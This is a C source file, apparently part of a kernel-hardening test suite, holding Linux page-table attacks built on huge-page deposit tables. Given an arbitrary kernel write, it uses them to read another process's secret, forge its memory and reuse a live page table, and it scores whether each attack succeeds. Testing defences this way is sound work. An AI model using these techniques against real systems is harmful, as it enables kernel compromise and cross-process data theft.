// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of links between tables. A huge page has a page table laid by
 * for the day when it is split; which one is said in struct page.
 */
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "deposit.h"
#include "list.h"
#include "objects.h"

#define TABLE_PART	0x57
#define SHARED_PART	0x58
#define HOLE		9	/* page of the huge one, or entry of a table */
#define COLLAPSE	25	/* MADV_COLLAPSE, which C libraries may not have */
#define TRIES		10
#define PATIENCE	1000	/* times 10 ms */

/* A table that is in use becomes a deposit again. */
static bool collapse(volatile char *at)
{
	int i;

	for (i = 0; i < TRIES; i++)
		if (!madvise((void *)at, PMD_SIZE, COLLAPSE))
			return true;
	return false;
}

static int link_two(uint64_t page, uint64_t other)
{
	int err = kwrite64(page + PAGE_LRU, other + PAGE_LRU);

	return err ?: kwrite64(page + PAGE_LRU + 8, other + PAGE_LRU);
}

static enum outcome use_own_table(const struct huge *huge, const struct kernel_page *own, int err)
{
	struct window window = {
		.page = (char *)huge->at + HOLE * PAGE_SIZE,
		.slot = own->addr + HOLE * sizeof(uint64_t),
		.size = PAGE_SIZE,
	};
	char text[64];

	err = err ?: window_map(&window, plain_store, NULL, victim_phys());
	snprintf(text, sizeof(text), "%s", window.page);
	window_close(&window);
	return judge_secret(text, err);
}

/* The advice has a part of a huge page split off: the hole's entry is the window. */
static enum outcome deposit(const struct kernel_page *own, int advice)
{
	enum outcome outcome;
	struct huge huge;
	struct slot pmd;
	int err;

	if (!make_huge(&huge))
		return broken("no huge page");
	err = close_list(own->page);
	err = err ?: kwrite64(huge.field, own->page);
	madvise((void *)(huge.at + HOLE * PAGE_SIZE), PAGE_SIZE, advice);
	kwalk((uint64_t)huge.at, LEVEL_PMD, 0, &pmd);
	if (!pmd.value || (pmd.value & PTE_PFN_MASK) != own->phys)
		return lost("the stores gave %d, and another table was put under the entry", err);
	outcome = use_own_table(&huge, own, err);
	madvise((void *)huge.at, PMD_SIZE, MADV_DODUMP);
	if (!collapse(huge.at))
		return broken("the page cannot be a deposit again");
	kwrite64(huge.field, huge.deposit);
	return outcome;
}

enum outcome deposit_own_page(void)
{
	struct kernel_page own;

	return kernel_page(&own) ? deposit(&own, MADV_DONTNEED) : broken("no page");
}

#ifdef __x86_64__
/*
 * The first page of memory, which is the BIOS's, is no table that anybody could
 * have: an entry that leads to it looks like one that leads nowhere. No section is
 * to take anything out of it, so the area is split, and no part of it unmapped.
 */
enum outcome deposit_first_page(void)
{
	struct kernel_page first = { direct_map_base(), memory_map_base(), 0 };
	char before[PAGE_SIZE];
	enum outcome outcome;

	if (kread(first.addr, before, PAGE_SIZE))
		return broken("no first page");
	outcome = deposit(&first, MADV_DONTDUMP);
	kwrite(first.addr, before, PAGE_SIZE);
	return outcome;
}
#else
enum outcome deposit_first_page(void)
{
	return skipped("nothing can be stored to the first page of this machine's memory");
}
#endif

#define ENTRIES		(PAGE_SIZE / sizeof(uint64_t))
#define MOST_ENTRIES	8192	/* of a table, with pages of 64 KiB */

/* The victim's lowest table, and what stood in it. */
struct others {
	uint64_t table, page, phys;
	unsigned int secret;	/* entry that maps the secret */
	uint64_t entry[MOST_ENTRIES];
};

static bool find_others(struct others *others)
{
	struct slot pmd, slot;

	if (kwalk(victim_secret(), LEVEL_PMD, victim_pid(), &pmd) ||
	    kwalk(victim_secret(), LEVEL_PTE, victim_pid(), &slot))
		return false;
	others->phys = pmd.value & PTE_PFN_MASK;
	others->table = slot.slot & -PAGE_SIZE;
	others->secret = slot.slot % PAGE_SIZE / sizeof(uint64_t);
	others->page = page_of(slot.slot);
	return !kread(others->table, others->entry, PAGE_SIZE);
}

static void put_back(const struct others *others)
{
	unsigned int i;

	for (i = 0; i < ENTRIES; i++)
		if (others->entry[i])
			kwrite64(others->table + i * sizeof(uint64_t), others->entry[i]);
}

/* Each CPU loads the attacker's root, and so knows nothing of the victim's. */
static void forget_mappings(void)
{
	int cpu, nr = sysconf(_SC_NPROCESSORS_ONLN);

	for (cpu = nr - 1; cpu >= 0; cpu--)
		stay_on_cpu(cpu);
}

/*
 * A deposit is filled when the huge page is split: with what the attacker has at
 * the same place of his huge page. Here it is the table of another process.
 */
enum outcome deposit_table_of_victim(void)
{
	char forged[SECRET_SIZE] = "what the attacker wrote";
	static struct others others;
	enum outcome outcome;
	struct huge huge;
	struct slot pmd;
	int err;

	if (!find_others(&others) || !make_huge(&huge))
		return broken("no huge page");
	memcpy((char *)huge.at + others.secret * PAGE_SIZE + victim_secret() % PAGE_SIZE,
	       forged, sizeof(forged));
	err = close_list(others.page);
	err = err ?: kwrite64(huge.field, others.page);
	madvise((void *)(huge.at + (others.secret + 1) % ENTRIES * PAGE_SIZE), PAGE_SIZE,
		MADV_DONTNEED);
	kwalk((uint64_t)huge.at, LEVEL_PMD, 0, &pmd);
	if ((pmd.value & PTE_PFN_MASK) != others.phys)
		return lost("the stores gave %d, and another table was put under the entry", err);
	forget_mappings();
	outcome = judge_forged(forged, err);
	if (!collapse(huge.at))
		return broken("the page cannot be a deposit again");
	put_back(&others);
	kwrite64(huge.field, huge.deposit);
	return outcome;
}

#ifdef __x86_64__
/*
 * A table that is in use is freed as a deposit, and so it is handed out again:
 * it is the attacker's lowest table at one address, and a table of tables at
 * another. What its entries lead to are pages of his at the first.
 */
struct twice {
	volatile char *as_pages;	/* the PMD_SIZE that it maps as a lowest table */
	volatile char *as_tables;	/* the PUD_SIZE that it maps as a higher one */
	uint64_t table, page;
};

static bool make_table(struct twice *twice)
{
	struct slot slot;

	twice->as_pages = attack_room(TABLE_PART, PMD_SIZE);
	twice->as_tables = attack_room(SHARED_PART, 2 * PUD_SIZE);
	if (!twice->as_pages || !twice->as_tables)
		return false;
	madvise((void *)twice->as_tables, 2 * PUD_SIZE, MADV_NOHUGEPAGE);
	/* All tables above, so that the next one is a PMD table. */
	(void)twice->as_tables[0];
	twice->as_tables += PUD_SIZE;
	twice->as_pages[0] = 1;
	madvise((void *)twice->as_pages, PMD_SIZE, MADV_DONTNEED);
	if (kwalk((uint64_t)twice->as_pages, LEVEL_PTE, 0, &slot))
		return false;
	twice->table = slot.slot & -PAGE_SIZE;
	twice->page = page_of(slot.slot);
	return true;
}

#define GRACE_PERIOD	200000	/* microseconds, for one of RCU */

/* The real deposit stays behind it in the list. Newer kernels free tables late. */
static int free_as_deposit(const struct huge *huge, const struct twice *twice)
{
	int err = link_two(twice->page, huge->deposit);

	err = err ?: link_two(huge->deposit, twice->page);
	err = err ?: kwrite64(huge->field, twice->page);
	madvise((void *)huge->at, PMD_SIZE, MADV_DONTNEED);
	if (is_since(7, 3))
		usleep(GRACE_PERIOD);
	(void)twice->as_tables[HOLE * PMD_SIZE];
	return err;
}

/* Tables are freed late. The pool marks them; without it a reference goes. */
static bool wait_until_freed(uint64_t page)
{
	int i, count, once = 1;

	for (i = 0; i < PATIENCE; i++) {
		kread(page + PAGE_REFCOUNT, &count, sizeof(count));
		if (count == once || kread64(page + PAGE_PRIVATE))
			break;
		usleep(10000);
	}
	kwrite(page + PAGE_REFCOUNT, &once, sizeof(once));
	return i < PATIENCE && !kwrite64(page + PAGE_PRIVATE, 0);
}

/*
 * The higher table goes, the lowest one is made a deposit again and that one
 * exchanged for the real one: each is freed once.
 */
static bool free_once(const struct huge *huge, const struct twice *twice)
{
	struct slot pmd;
	uint64_t field;

	add_reference(twice->page, 1);
	munmap((void *)(twice->as_tables - PUD_SIZE), 2 * PUD_SIZE);
	if (!wait_until_freed(twice->page))
		return false;
	twice->as_pages[0] = 1;
	if (!collapse(twice->as_pages) || kwalk((uint64_t)twice->as_pages, LEVEL_PMD, 0, &pmd))
		return false;
	field = page_of(pmd.slot) + TABLE_DEPOSIT;
	if (kread64(field) != twice->page)
		return false;
	close_list(huge->deposit);
	kwrite64(huge->field, 0);
	return !kwrite64(field, huge->deposit);
}

enum outcome deposit_table_in_use(void)
{
	struct twice twice;
	struct window window;
	struct huge huge;
	struct slot pmd;
	char text[64];
	int err;

	stay_on_cpu(0);
	if (!make_table(&twice) || !make_huge(&huge))
		return broken("no huge page");
	err = free_as_deposit(&huge, &twice);
	kwalk((uint64_t)(twice.as_tables + HOLE * PMD_SIZE), LEVEL_PMD, 0, &pmd);
	if ((pmd.slot & -PAGE_SIZE) != twice.table)
		return lost("the stores gave %d, and the table was not handed out again", err);
	if (!window_open_behind(&window, twice.as_tables + HOLE * PMD_SIZE))
		return broken("no page table");
	take_secret_in(twice.as_pages + HOLE * PAGE_SIZE, &window, text, sizeof(text));
	if (!free_once(&huge, &twice))
		return broken("the table cannot be freed once only");
	return judge_secret(text, err);
}
#else
enum outcome deposit_table_in_use(void)
{
	return skipped("entries of higher tables are not those of pages on this architecture");
}
#endif
